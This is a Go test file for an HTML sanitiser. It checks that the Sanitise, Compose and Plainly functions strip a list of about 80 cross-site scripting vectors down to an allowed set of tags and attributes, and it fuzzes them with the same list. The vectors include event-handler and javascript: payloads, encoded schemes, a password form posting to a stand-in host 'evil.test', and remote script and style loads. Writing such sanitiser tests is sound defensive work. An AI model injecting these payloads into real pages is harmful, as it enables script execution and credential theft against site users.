package release

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile are the usual ways to smuggle a script, a form, a style or a foreign address into kept HTML.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script src=//evil.test/x.js></script>`,
	`<script/src=//evil.test>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<script>alert(1)//<</script>`,
	`<script>alert(1)`,
	`<script\x20type="text/javascript">alert(1);</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img/src=x/onerror=alert(1)>`,
	`<img src="x" onerror = "alert(1)" />`,
	"<img src=`x` onerror=alert(1)>",
	`<img """><script>alert(1)</script>">`,
	`<image src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<body onload=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
	`<applet code=x></applet>`,
	`<form action="https://evil.test"><input name=password><button>Sign in</button></form>`,
	`<button formaction="javascript:alert(1)">x</button>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select onfocus=alert(1) autofocus>`,
	`<textarea onfocus=alert(1) autofocus>x</textarea>`,
	`<video><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<base href="https://evil.test/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test">`,
	`<link rel=stylesheet href="https://evil.test/x.css">`,
	`<style>@import "https://evil.test/x.css";</style>`,
	`<style>*{background:url(https://evil.test)}</style>`,
	`<p style="background:url(https://evil.test)">x</p>`,
	`<p style="width:expression(alert(1))">x</p>`,
	`<p onclick=alert(1) class=x id=y>x</p>`,
	`<p onmouseover="alert(1)"><strong onfocus=alert(1) tabindex=0>x</strong></p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="//evil.test/x">x</a>`,
	`<a href="/logout">x</a>`,
	`<a href="https://good.test" onclick=alert(1) target=_blank rel="opener" style="x" ping="https://evil.test">x</a>`,
	`<a href="blob:https://evil.test/1">x</a>`,
	`<span data-fact="1&quot; onclick=alert(1)" data-version="1">x</span>`,
	`<span data-fact="x" data-version="1;drop" data-field="../x" data-evil="1" onclick=alert(1)>x</span>`,
	`<span data-fact='"><script>alert(1)</script>' data-version=1>x</span>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<template><script>alert(1)</script></template>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><html><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></html>`,
	`<figure data-picture='p"onload="alert(1)' onclick=alert(1)><img src=x onerror=alert(1)>x</figure>`,
	`<figure data-picture="p1" style="background:url(https://evil.test)" onclick=alert(1)><img src="https://evil.test/x.png" srcset="https://evil.test/y.png 2x"><figcaption onclick=alert(1)>x</figcaption></figure>`,
	`<figure data-picture="p1"><figure data-picture="p2"><script>alert(1)</script>x</figure></figure>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	"<script\x00>alert(1)</script>",
	"<a href=\"java\x00script:alert(1)\">x</a>",
	`<p>` + strings.Repeat(`<strong>`, 2000) + `x`,
}

func TestHostileHTMLIsReducedToTheSubset(t *testing.T) {
	if len(hostile) < 60 {
		t.Fatalf("only %d vectors", len(hostile))
	}
	for _, source := range hostile {
		for name, clean := range map[string]string{
			"Sanitise": Sanitise(source), "Compose": Compose(source), "Plainly": Plainly(source, nil), "twice": Plainly(Compose(source), nil),
		} {
			if why := outside(clean); why != "" {
				t.Errorf("%s(%q) keeps %s: %q", name, source, why, clean)
			}
		}
		if once := Sanitise(source); Sanitise(once) != once {
			t.Errorf("cleaning %q again changes it", source)
		}
		if once := Compose(source); Compose(once) != once {
			t.Errorf("composing %q again changes it:\n%s\n%s", source, once, Compose(once))
		}
	}
}

// outside says what in the HTML is not of the subset, by its own list and its own reading.
func outside(source string) string {
	allowed := map[string][]string{
		"p": nil, "br": nil, "strong": nil, "em": nil, "h2": nil, "h3": nil, "h4": nil, "ul": nil, "ol": nil, "li": nil,
		"blockquote": nil, "a": {"href", "rel"}, "span": {"data-fact", "data-version", "data-field"},
		"figure": {"data-picture"}, "figcaption": nil,
	}
	for _, root := range parse(source) {
		for n := range walk(root) {
			if n.Type == html.TextNode {
				continue
			}
			attrs, ok := allowed[n.Data]
			if n.Type != html.ElementNode || !ok {
				return "<" + n.Data + ">"
			}
			for _, a := range n.Attr {
				if !slices.Contains(attrs, a.Key) {
					return n.Data + " " + a.Key
				}
				if u, err := url.Parse(a.Val); a.Key == "href" && (err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme)) {
					return a.Val
				}
				if a.Key == "rel" && a.Val != "noopener" || strings.ContainsAny(a.Val, `"'<> `) && a.Key != "href" {
					return n.Data + " " + a.Key + "=" + a.Val
				}
			}
		}
	}
	return ""
}

func TestCompose(t *testing.T) {
	for _, c := range []struct{ name, typed, want string }{
		{"nothing", " \n ", ""},
		{"plain text", "One.\r\nStill one.\r\n\r\n\r\nTwo & three < four.", "<p>One.<br/>Still one.</p>\n\n<p>Two &amp; three &lt; four.</p>"},
		{"Chinese indents", "第一段。\n\n　　第二段。", "<p>第一段。</p>\n\n<p>第二段。</p>"},
		{"inline only", "A <strong>bold</strong> word\n\nand <em>more</em>", "<p>A <strong>bold</strong> word</p>\n\n<p>and <em>more</em></p>"},
		{"blocks stay", "<h2>Head</h2>\n<p>Text\ngoes on</p>", "<h2>Head</h2>\n\n<p>Text\ngoes on</p>"},
		{"loose text beside blocks", "<p>One</p>\n\nTwo\n\nThree\n<ul><li>x</li></ul>", "<p>One</p>\n\n<p>Two</p>\n\n<p>Three</p>\n\n<ul><li>x</li></ul>"},
		{"empty blocks go", "<p>One</p><p> </p><h2></h2>", "<p>One</p>"},
		{"links", `<a href="https://example.com/a?b=1&c=2">x</a>`, `<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener">x</a></p>`},
		{"a bad link leaves its words", `<a href="javascript:alert(1)">words</a>`, "<p>words</p>"},
		{"citations", `Said <span data-fact="f1" data-version="2" class="x">12</span>.`, `<p>Said <span data-fact="f1" data-version="2">12</span>.</p>`},
		{"merge fields", `Dear <span data-field="first_name">name</span>`, `<p>Dear <span data-field="first_name">name</span></p>`},
		{"pictures", `<p>See</p><figure data-picture="p1" class="x"><img src="https://example.com/x.png"><figcaption><p>The <em>plant</em></p><p>today</p></figcaption></figure>`, "<p>See</p>\n\n<figure data-picture=\"p1\">The <em>plant</em> today</figure>"},
		{"a picture without words", `<figure data-picture="p1"> </figure>`, `<figure data-picture="p1"></figure>`},
		{"a picture of elsewhere leaves its words", `<figure><img src="https://example.com/x.png"><figcaption>The plant</figcaption></figure><figure><img src="x"></figure>`, "<p>The plant</p>"},
		{"other tags leave their words", `<div><b>Word</b> from <u>elsewhere</u></div>`, "<p>Word from elsewhere</p>"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Compose(c.typed)
			if got != c.want {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
			if again := Compose(got); again != got {
				t.Errorf("again gives %q", again)
			}
		})
	}
}

func TestPlainlyShowsNothingOfOurNumbering(t *testing.T) {
	got := Plainly(`<p>Of <span data-fact="f1" data-version="2">12 <em>units</em></span> <span data-field="x">y</span>.</p><blockquote><p>`+Cite("f2", 1, "a < b")+`</p></blockquote>`, nil)
	if want := `<p>Of 12 <em>units</em> y.</p><blockquote><p>a &lt; b</p></blockquote>`; got != want {
		t.Errorf("got %s", got)
	}
}

func FuzzCompose(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		composed := Compose(source)
		if why := outside(composed); why != "" {
			t.Errorf("Compose(%q) keeps %s", source, why)
		}
		if why := outside(Plainly(source, nil)); why != "" {
			t.Errorf("Plainly(%q) keeps %s", source, why)
		}
	})
}
